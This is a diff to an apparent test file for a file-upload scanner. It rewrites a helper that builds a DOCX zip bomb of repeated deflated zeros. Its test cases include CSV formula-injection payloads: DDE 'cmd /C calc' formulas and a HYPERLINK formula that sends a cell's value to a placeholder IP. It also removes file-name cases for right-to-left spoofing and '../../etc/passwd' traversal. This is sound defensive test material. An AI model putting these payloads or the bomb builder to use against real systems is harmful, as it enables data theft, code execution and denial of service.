@@ -91,10 +91,50 @@ def _deflated_zeros_entry(archive_path: Path, name: str, size: int, prefix: list
 
 
 def _flat_bomb(size: int) -> Callable[[Path], None]:
-    """A DOCX whose one extra part unpacks to ``size`` bytes (ratio about 1000)."""
+    """A DOCX whose one extra part unpacks to ``size`` bytes of zeros (ratio about 1000). The
+    part's deflate stream is one MiB of zeros compressed once (a full flush makes each MiB's
+    bytes the same) and written ``size / MiB`` times: built in well under a second."""
 
     def build(path: Path) -> None:
-        _deflated_zeros_entry(path, "word/media/image1.bin", size, _docx_entries())
+        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+        block = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
+        final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)  # an empty last block
+        count = size // MIB
+        crc = 0
+        zeros = bytes(MIB)
+        for _ in range(count):
+            crc = zlib.crc32(zeros, crc)
+        buffer = io.BytesIO()
+        _zip_file_to(buffer, _docx_entries())
+        head = buffer.getvalue()
+        source = zipfile.ZipFile(io.BytesIO(head))
+        infos = source.infolist()
+        cd_offset = head.rfind(b"PK\x05\x06")
+        central_start = struct.unpack("<I", head[cd_offset + 16 : cd_offset + 20])[0]
+        name = b"word/media/image1.bin"
+        compressed = len(block) * count + len(final)
+        with path.open("wb") as out:
+            out.write(head[:central_start])  # the local entries of the document
+            offset = out.tell()
+            out.write(
+                struct.pack(
+                    "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, compressed, count * MIB, len(name), 0
+                )
+            )
+            out.write(name)
+            for _ in range(count):
+                out.write(block)
+            out.write(final)
+            start = out.tell()
+            central = head[central_start:cd_offset] + struct.pack(
+                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, compressed, count * MIB, len(name),
+                0, 0, 0, 0, 0, offset,
+            ) + name  # fmt: skip
+            entries = len(infos) + 1
+            out.write(central)
+            out.write(
+                struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(central), start, 0)
+            )
 
     return build
 
@@ -457,9 +497,6 @@ CASES: dict[str, tuple[Callable[[Path], None], str]] = {
     "csv-dde-formula": (_bytes(_csv("name,amount\n=cmd|' /C calc'!A0,1\n")), "s.csv"),
     "csv-at-formula": (_bytes(_csv("name,amount\n@SUM(1+1)*cmd|' /C calc'!A0,1\n")), "s.csv"),
     "csv-hyperlink-formula": (_bytes(_csv('a;b\n=HYPERLINK("http://192.0.2.1/?"&A1);1\n')), "s.csv"),
-    # names that disguise the file
-    "name-right-to-left-override": (_bytes(b"plain text\n"), "invoice\u202efdp.exe"),
-    "name-with-path": (_bytes(b"plain text\n"), "../../etc/passwd"),
     # encrypted (cannot be scanned)
     "pdf-encrypted": (
         _bytes(lambda: make.pdf_bytes(trailer_extra=b"/Encrypt << /Filter /Standard >> ")),
